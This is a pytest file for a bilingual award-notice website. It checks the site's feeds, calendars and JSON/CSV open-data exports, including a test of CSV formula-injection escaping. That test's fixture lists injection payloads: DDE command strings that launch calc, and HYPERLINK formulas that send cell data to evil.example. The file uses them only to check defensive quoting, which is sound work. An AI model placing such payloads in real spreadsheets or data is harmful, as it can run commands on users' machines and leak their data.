"""Feeds, calendars and open data, read back as a subscriber's program would: RSS and
Atom with feedparser, iCalendar with icalendar, JSON and CSV with the standard library.
The site is built as of 2026-11-23 (conftest's `built_site`)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path
from urllib.parse import urlsplit
from zoneinfo import ZoneInfo

import feedparser
import pytest
import yaml
from bs4 import BeautifulSoup
from icalendar import Calendar

from conftest import DEMO, PUBLISHED_URL, ROOT, copy_project, real_project
from generator import pipeline
from generator.collect import gather
from generator.exports import export_files
from generator.model import WINNER_TABLES, Winner
from generator.open_data import DATASETS, fields

TODAY = dt.date(2026, 11, 23)
SHANGHAI = ZoneInfo("Asia/Shanghai")
CITIES = ("baotou", "hohhot", "linyi", "wuhan", "xinyang")
ACCEPTANCE = "notices/xinyang/example-2026/acceptance-list/"  # published 2026-11-19, 5 working days to 11-25


@pytest.fixture(scope="module")
def built_site(published_site) -> Path:
    """Feeds, calendars and data files are read away from the site: these tests read a
    build published at an address (PUBLISHED_URL); test_urls.py reads one without."""
    return published_site


def resolved(site: Path, page: str, href: str) -> str:
    """Where a relative link on the page published at `page` (e.g. "en/data/") leads, from the site root."""
    return (site / page / href).resolve().relative_to(site.resolve()).as_posix()


def records(site: Path, name: str) -> list[dict]:
    return json.loads((site / "data" / f"{name}.json").read_text(encoding="utf-8"))["records"]


def feed(site: Path, path: str):
    parsed = feedparser.parse((site / path).read_bytes())
    assert not parsed.bozo, (path, parsed.get("bozo_exception"))
    return parsed


def calendar(site: Path, name: str) -> Calendar:
    return Calendar.from_ical((site / "calendar" / f"{name}.ics").read_bytes())


# ---------------------------------------------------------------- feeds

@pytest.mark.parametrize("fmt", ["rss", "atom"])
def test_each_language_has_a_feed_of_the_notices_published_so_far(built_site, fmt):
    published = [n for n in records(built_site, "notices") if n["published"] <= TODAY.isoformat()]
    for lang, root in (("zh", ""), ("en", "en/")):
        parsed = feed(built_site, f"{root}feeds/notices.{fmt}.xml")
        links = [e.link for e in parsed.entries]
        assert sorted(links) == sorted(n[f"page_{lang}"] for n in published)
        assert all(link.startswith(PUBLISHED_URL + root) for link in links)
        if lang == "zh":
            assert not [link for link in links if "/en/" in link]
        entry = next(e for e in parsed.entries if e.link == PUBLISHED_URL + root + ACCEPTANCE)
        assert entry.title == ("[示例] 2026年度信阳市市长质量奖受理名单公示（示例）" if lang == "zh" else
                               "[Example] Publicity of the accepted applications, 2026 Xinyang Mayor's Quality Award (example)")
        assert entry.published_parsed[:3] == (2026, 11, 18)  # 2026-11-19 00:00 +08:00 is the 18th in UTC
        assert ("2026-11-19 至 2026-11-25（5 个工作日）" if lang == "zh" else "2026-11-19 to 2026-11-25 (5 working days)") in entry.summary
        # newest first
        days = [e.published_parsed for e in parsed.entries]
        assert days == sorted(days, reverse=True)


def test_a_notice_not_yet_published_is_not_in_the_feed(built_site):
    links = [e.link for e in feed(built_site, "feeds/notices.rss.xml").entries]
    assert PUBLISHED_URL + "notices/xinyang/example-2026/acceptance-list/" in links
    assert PUBLISHED_URL + "notices/xinyang/example-2026/proposed-winners/" not in links  # published 2026-12-29


@pytest.mark.parametrize("city", CITIES)
def test_a_city_feed_holds_that_city_only(built_site, city):
    for root in ("", "en/"):
        for fmt in ("rss", "atom"):
            entries = feed(built_site, f"{root}feeds/{city}.{fmt}.xml").entries
            assert entries, (city, root, fmt)
            assert all(e.link.startswith(f"{PUBLISHED_URL}{root}notices/{city}/") for e in entries)


def test_every_page_names_the_feeds_of_its_language(built_site):
    for html in sorted(built_site.rglob("*.html")):
        soup = BeautifulSoup(html.read_text(encoding="utf-8"), "html.parser")
        feeds = {link["type"]: link["href"] for link in soup.find_all("link", type=["application/rss+xml", "application/atom+xml"])}
        assert set(feeds) == {"application/rss+xml", "application/atom+xml"}, html
        in_english = html.relative_to(built_site).parts[0] == "en"
        for href in feeds.values():
            # the 404 page, served at any depth, links by absolute paths under the published address
            target = (built_site / href.removeprefix(urlsplit(PUBLISHED_URL).path) if href.startswith("/")
                      else html.parent / href).resolve()
            assert target.is_file(), (html, href)
            if html.name != "404.html":  # one 404 page serves every address
                assert target.relative_to(built_site.resolve()).as_posix().startswith("en/feeds/" if in_english else "feeds/")


# ---------------------------------------------------------------- calendars

def events(cal: Calendar) -> dict[str, object]:
    return {str(e["uid"]): e for e in cal.walk("VEVENT")}


def test_the_calendar_holds_every_period_with_its_last_day_in_beijing_time(built_site):
    cal = calendar(built_site, "deadlines")
    assert [str(tz["tzid"]) for tz in cal.walk("VTIMEZONE")] == ["Asia/Shanghai"]
    found = events(cal)
    with_period = [n for n in records(built_site, "notices") if n["period_end"]]
    assert len(found) == len(with_period)
    for n in with_period:
        what = "deadline" if n["period_kind"] == "deadline" else "publicity-end"
        event = found[f"{n['city']}-{n['cycle']}-{n['id']}-{what}@awards.example.org"]
        start, end = event.decoded("dtstart"), event.decoded("dtend")
        assert start.tzinfo.key == end.tzinfo.key == "Asia/Shanghai"
        assert start == dt.datetime.fromisoformat(n["period_end"]).replace(tzinfo=SHANGHAI)
        assert end == dt.datetime.combine(dt.date.fromisoformat(n["period_end"]), dt.time(23, 59, 59), SHANGHAI)
        assert n["title_zh"] in str(event["summary"]) and n["title_en"] in str(event["summary"])
        assert n["page_zh"] in str(event["description"]) and n["page_en"] in str(event["description"])
        assert ("暂定" in str(event["description"])) == n["provisional"]


def test_every_notice_open_on_the_day_is_in_the_calendar(built_site):
    open_now = [n for n in records(built_site, "notices") if n["status"] == "open"]
    assert open_now
    uids = set(events(calendar(built_site, "deadlines")))
    for n in open_now:
        assert any(uid.startswith(f"{n['city']}-{n['cycle']}-{n['id']}-") for uid in uids), n["id"]
    acceptance = events(calendar(built_site, "xinyang"))["xinyang-example-2026-acceptance-list-publicity-end@awards.example.org"]
    assert acceptance.decoded("dtend") == dt.datetime(2026, 11, 25, 23, 59, 59, tzinfo=SHANGHAI)
    assert "[示例 Example]" in str(acceptance["summary"])


def test_a_provisional_end_says_so():
    """The 2026 proposed-winner publicity runs into 2027, whose schedule is not published
    (on the site from its publication day, 2026-12-29)."""
    _, files = pipeline.outputs(pipeline.prepare(DEMO, dt.date(2026, 12, 29)))
    event = events(Calendar.from_ical(files["zh/calendar/xinyang.ics"]))["xinyang-example-2026-proposed-winners-publicity-end@awardsite"]
    assert "暂定" in str(event["description"]) and "provisional" in str(event["description"])


@pytest.mark.parametrize("city", CITIES)
def test_a_city_calendar_holds_that_city_only(built_site, city):
    found = events(calendar(built_site, city))
    assert found and all(uid.startswith(city + "-") for uid in found)
    assert str(calendar(built_site, city)["x-wr-timezone"]) == "Asia/Shanghai"


# ---------------------------------------------------------------- open data

def test_a_winners_column_that_names_a_field_names_one_of_the_winner():
    """open_data.yaml's winners columns with a `field` are that field of the winner, written
    as it is; those with a `heading` too are the columns the pages' winners tables may show
    (model.WINNER_TABLES), such as credit_code on a cycle's and a notice's tables."""
    named = {name: column for name, column in fields()["winners"]["columns"].items() if "field" in column}
    assert "credit_code" in named
    assert [name for name, column in named.items() if column["field"] not in Winner.model_fields] == []
    assert [name for name, column in named.items() if "heading" in column and set(column["heading"]) != {"zh", "en"}] == []
    shown = {column for table in WINNER_TABLES.values() for column in table}
    assert "credit_code" in shown and [name for name in shown & set(named) if "heading" not in named[name]] == []


@pytest.mark.parametrize("name", DATASETS)
def test_json_and_csv_hold_the_same_documented_records(built_site, name):
    documented = list(fields()[name]["columns"])
    data = json.loads((built_site / "data" / f"{name}.json").read_text(encoding="utf-8"))
    assert data["fields"] == documented and data["as_of"] == "2026-11-23"
    rows = list(csv.DictReader(io.StringIO((built_site / "data" / f"{name}.csv").read_text(encoding="utf-8-sig"))))
    assert rows and len(rows) == len(data["records"])
    for record, row in zip(data["records"], rows):
        assert list(record) == documented and list(row) == documented
        assert isinstance(record["example"], bool)
        expected = {k: "" if v is None else str(v).lower() if isinstance(v, bool)
                    else "'" + v if isinstance(v, str) and v.startswith(FORMULA) else str(v) for k, v in record.items()}
        assert row == expected


# ---------------------------------------------------------------- formula injection (issue 19)

FORMULA = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet program reads as the start of a formula (OWASP)
HOSTILE_CYCLE = "content/hohhot/example-2025.yaml"
# (data set, the row's key, column, the text a careless or compromised account commits there)
HOSTILE_CELLS = [
    ("notices", "call", "title_zh", '=HYPERLINK("https://evil.example/?"&A1,"点击查看")'),
    ("notices", "call", "title_en", "+cmd|' /C calc'!A0"),
    ("notices", "call", "cycle_title_zh", "=1+1"),
    ("notices", "call", "issuer_zh", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("notices", "decision", "document", "-2+3+cmd|' /C calc'!A0"),
    ("notices", "internal-publicity", "objection_phone", "\t=1+1"),
    ("notices", "internal-publicity", "objection_email", "@HYPERLINK(\"https://evil.example/\")"),  # a CR first is refused at check
    ("winners", "hh25-precision", "name_zh", "=HYPERLINK(\"https://evil.example/\",\"示例精密制造有限公司\")"),
    ("revocations", "hh25-precision", "winner_name_zh", "=HYPERLINK(\"https://evil.example/\",\"示例精密制造有限公司\")"),
    ("winners", "hh25-logistics", "sector_zh", "-1+cmd|' /C calc'!A0"),
    ("winners", "hh25-zhang", "employer_zh", "@SUM(A1:A9)"),
    ("revocations", "hh25-precision", "reason_zh", "=cmd|' /C calc'!A0"),
    ("revocations", "hh25-precision", "document", "+1+1"),
]


def _commit_hostile_cells(cycle: dict) -> None:
    """Put each of HOSTILE_CELLS where the office writes it in a cycle file."""
    notices = {n["id"]: n for n in cycle["notices"]}
    winners = {w["id"]: w for w in cycle["winners"]}
    revocation = cycle["revocations"][0]
    cells = {(key, column): value for _, key, column, value in HOSTILE_CELLS}
    notices["call"]["title"] = {"zh": cells["call", "title_zh"], "en": cells["call", "title_en"]}
    cycle["title"]["zh"] = cells["call", "cycle_title_zh"]
    notices["call"]["issuer"]["zh"] = cells["call", "issuer_zh"]
    notices["decision"]["document"] = cells["decision", "document"]
    notices["internal-publicity"]["objection"]["phone"] = cells["internal-publicity", "objection_phone"]
    notices["internal-publicity"]["objection"]["email"] = cells["internal-publicity", "objection_email"]
    winners["hh25-precision"]["name"]["zh"] = cells["hh25-precision", "name_zh"]  # and the revocation's winner_name_zh
    winners["hh25-logistics"]["sector"]["zh"] = cells["hh25-logistics", "sector_zh"]
    winners["hh25-zhang"]["employer"]["zh"] = cells["hh25-zhang", "employer_zh"]
    assert revocation["winner"] == "hh25-precision"
    revocation["reason"]["zh"] = cells["hh25-precision", "reason_zh"]
    revocation["document"] = cells["hh25-precision", "document"]


@pytest.fixture(scope="module")
def hostile_exports(tmp_path_factory) -> dict[str, str]:
    """The exported files of the real content with HOSTILE_CELLS committed into one example cycle."""
    project = copy_project(tmp_path_factory.mktemp("formulas") / "project", examples=True)
    path = project / HOSTILE_CYCLE
    cycle = yaml.safe_load(path.read_text(encoding="utf-8"))
    _commit_hostile_cells(cycle)
    path.write_text(yaml.safe_dump(cycle, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return export_files(gather(project), TODAY, project)


def _hostile_row(exports: dict[str, str], name: str, ext: str, key: str) -> dict:
    if ext == "csv":
        found = list(csv.DictReader(io.StringIO(exports[f"zh/data/{name}.csv"].removeprefix("\ufeff"))))
    else:
        found = json.loads(exports[f"zh/data/{name}.json"])["records"]
    column = {"notices": "id", "winners": "id", "revocations": "winner"}[name]
    return next(r for r in found if r["city"] == "hohhot" and r["cycle"] == "example-2025" and r[column] == key)


@pytest.mark.parametrize(("name", "key", "column", "value"), HOSTILE_CELLS,
                         ids=[f"{name}.{column}" for name, _, column, _ in HOSTILE_CELLS])
def test_a_text_a_spreadsheet_would_run_as_a_formula_gets_a_quote_in_front_in_the_csv(hostile_exports, name, key, column, value):
    assert _hostile_row(hostile_exports, name, "csv", key)[column] == "'" + value
    assert _hostile_row(hostile_exports, name, "json", key)[column] == value  # the JSON is data, not a sheet: as it is


def test_numbers_dates_yes_no_empty_cells_and_ordinary_text_are_written_as_they_are(hostile_exports):
    row = _hostile_row(hostile_exports, "notices", "csv", "internal-publicity")
    assert row["title_zh"] == "示例科技有限公司市长质量奖申报内部公示（示例）"
    assert row["title_en"] == "Internal publicity of 示例科技有限公司's application (example)"
    assert (row["published"], row["period_end"], row["working_days"]) == ("2025-04-07", "2025-04-11", "5")
    assert (row["provisional"], row["example"], row["document"], row["source_url"]) == ("false", "true", "", "")
    assert _hostile_row(hostile_exports, "winners", "csv", "hh25-zhang")["credit_code"] == ""
    assert _hostile_row(hostile_exports, "winners", "csv", "hh25-tech")["sector_zh"] == "制造业"
    assert _hostile_row(hostile_exports, "revocations", "csv", "hh25-precision")["grounds"] == "24.1.2"


def test_the_data_page_says_why_a_csv_cell_may_start_with_a_quote(built_site):
    for root, words in (("", "单引号（'）"), ("en/", "a single quote (') put in front")):
        soup = BeautifulSoup((built_site / root / "data" / "index.html").read_text(encoding="utf-8"), "html.parser")
        assert words in soup.select_one("article").get_text()


def test_the_data_holds_the_content(built_site):
    notices = {(n["city"], n["cycle"], n["id"]): n for n in records(built_site, "notices")}
    acceptance = notices[("xinyang", "example-2026", "acceptance-list")]
    assert acceptance["period_end"] == "2026-11-25"
    assert (acceptance["working_days"], acceptance["status"], acceptance["example"]) == (5, "open", True)
    winners = {(w["city"], w["id"]): w for w in records(built_site, "winners")}
    assert winners[("xinyang", "xy25-tea")]["credit_code"] == "91411500EXAMPLE01W"
    assert {r["winner"] for r in records(built_site, "revocations")} >= {"bt19-rare-earth", "hh25-precision"}
    facts = records(built_site, "regulation_facts")
    assert {f["city"] for f in facts} == set(CITIES)
    for name in DATASETS:
        for record in records(built_site, name):
            assert "example" in record and "source_url" in record
            assert record["example"] or record["source_url"] or record.get("source_file"), (name, record)


# A real cycle as an office transcribes one from its sources (test data: the real records
# of content/ change every day, and the demo holds examples only).
REAL_CYCLE = """city: xinyang
cycle: '2024'
title: {zh: 2024年度信阳市市长质量奖, en: The 2024 Xinyang Mayor's Quality Award}
regulation: '2022'
notices:
- id: call
  kind: call_for_applications
  title: {zh: 申报通知, en: Call for applications}
  published: 2024-03-01
  source_url: https://www.xinyang.gov.cn/call.html
  deadline: 2024-04-30
winners:
- id: xy24-tea
  name: {zh: 信阳茶业有限公司, en: 'Xinyang Tea Co., Ltd.'}
  kind: organisation
  award: award
  source_url: https://www.xinyang.gov.cn/winners.html
"""


def test_the_data_of_a_real_project_holds_its_records_as_real(tmp_path):
    project = real_project(tmp_path / "project")
    (project / "content" / "xinyang").mkdir()
    (project / "content" / "xinyang" / "2024.yaml").write_text(REAL_CYCLE, encoding="utf-8")
    _, files = pipeline.outputs(pipeline.prepare(project, TODAY))
    [notice] = json.loads(files["zh/data/notices.json"])["records"]
    assert notice["example"] is False and notice["source_url"] == "https://www.xinyang.gov.cn/call.html"
    assert notice["period_end"] == "2024-04-30" and notice["status"] == "closed"
    [winner] = json.loads(files["zh/data/winners.json"])["records"]
    assert (winner["name_zh"], winner["example"], winner["source_url"]) == ("信阳茶业有限公司", False, "https://www.xinyang.gov.cn/winners.html")


def test_the_corrections_are_open_data(built_site):
    rows = {(r["city"], r["cycle"], r["record"], r["id"], r["field"]): r for r in records(built_site, "corrections")}
    phone = rows[("xinyang", "example-2026", "notice", "acceptance-list", "objection.phone")]
    assert (phone["was"], phone["now"], phone["date"]) == ("0000-0000000", "0000-00000000", "2026-11-20")
    assert (phone["field_zh"], phone["field_en"]) == ("异议受理方式 · 电话", "how to object · telephone")
    assert phone["why_en"] == "The objection telephone number was missing a digit (example)."
    assert phone["page_en"] == PUBLISHED_URL + "en/" + ACCEPTANCE and phone["example"] is True
    name = rows[("hohhot", "example-2025", "winner", "hh25-materials", "name.zh")]
    assert (name["was"], name["now"]) == ("示例新材料有限公", "示例新材料有限公司")
    assert name["page_zh"] == PUBLISHED_URL + "winners/hohhot/"


def test_a_corrected_text_a_spreadsheet_would_run_as_a_formula_gets_a_quote_in_front_in_the_csv(tmp_path):
    project = copy_project(tmp_path / "project", examples=True)
    path = project / HOSTILE_CYCLE
    was = '=HYPERLINK("https://evil.example/","示例新材料有限公")'
    text = path.read_text(encoding="utf-8")
    assert text.count("    was: 示例新材料有限公\n") == 1
    path.write_text(text.replace("    was: 示例新材料有限公\n", f"    was: '{was}'\n"), encoding="utf-8")
    exports = export_files(gather(project), TODAY, project)
    row = next(r for r in csv.DictReader(io.StringIO(exports["zh/data/corrections.csv"].removeprefix("\ufeff"))) if r["city"] == "hohhot")
    assert (row["was"], row["now"], row["date"]) == ("'" + was, "示例新材料有限公司", "2025-11-20")
    assert next(r for r in json.loads(exports["zh/data/corrections.json"])["records"] if r["city"] == "hohhot")["was"] == was


def test_the_json_schema_is_published_beside_the_data(built_site):
    for path in sorted((ROOT / "schema").glob("*.schema.json")):
        assert (built_site / "data" / "schema" / path.name).read_text(encoding="utf-8") == path.read_text(encoding="utf-8")


@pytest.mark.parametrize("root", ["", "en/"])
def test_the_data_page_documents_every_column_of_every_file(built_site, root):
    soup = BeautifulSoup((built_site / root / "data" / "index.html").read_text(encoding="utf-8"), "html.parser")
    hrefs = [a["href"] for a in soup.select("article a[href]")]
    assert not [h for h in hrefs if h.startswith(("http:", "https:"))]  # the site's own files: relative links
    links = {resolved(built_site, root + "data/", h) for h in hrefs}
    for name, table in fields().items():
        section = soup.find(id=name)
        assert section is not None, name
        documented = {code.get_text() for code in section.find_next("table").select("td code")}
        assert documented == set(table["columns"]), name
        for ext in ("json", "csv"):
            assert f"data/{name}.{ext}" in links
    assert "calendar/deadlines.ics" in links
    assert f"{root}feeds/notices.rss.xml" in links
    assert all((built_site / link).is_file() for link in links if "." in link.rsplit("/", 1)[-1]), links


@pytest.mark.parametrize("path", ["notices/", "cities/xinyang/", "en/notices/", "en/cities/wuhan/"])
def test_notices_and_city_pages_offer_subscriptions(built_site, path):
    soup = BeautifulSoup((built_site / path / "index.html").read_text(encoding="utf-8"), "html.parser")
    hrefs = {resolved(built_site, path, a["href"]) for a in soup.select(".subscribe a")}
    city = path.split("/")[-2] if "cities" in path else "notices"
    root = "en/" if path.startswith("en/") else ""
    calendar_file = f"calendar/{'deadlines' if city == 'notices' else city}.ics"
    assert f"{root}feeds/{city}.rss.xml" in hrefs and f"{root}feeds/{city}.atom.xml" in hrefs
    assert calendar_file in hrefs
    subscription = soup.select_one(".subscribe a[data-webcal]")  # assets/webcal.js makes it webcal:// where it is read
    assert resolved(built_site, path, subscription["href"]) == calendar_file


def test_exports_do_not_depend_on_the_clock():
    corpus = gather(DEMO)
    first = export_files(corpus, TODAY, DEMO)
    assert export_files(corpus, TODAY, DEMO) == first
    later = export_files(corpus, TODAY + dt.timedelta(days=3), DEMO)
    assert later["zh/feeds/notices.rss.xml"] == first["zh/feeds/notices.rss.xml"]  # nothing new published
    assert later["zh/data/notices.json"] != first["zh/data/notices.json"]  # statuses moved on
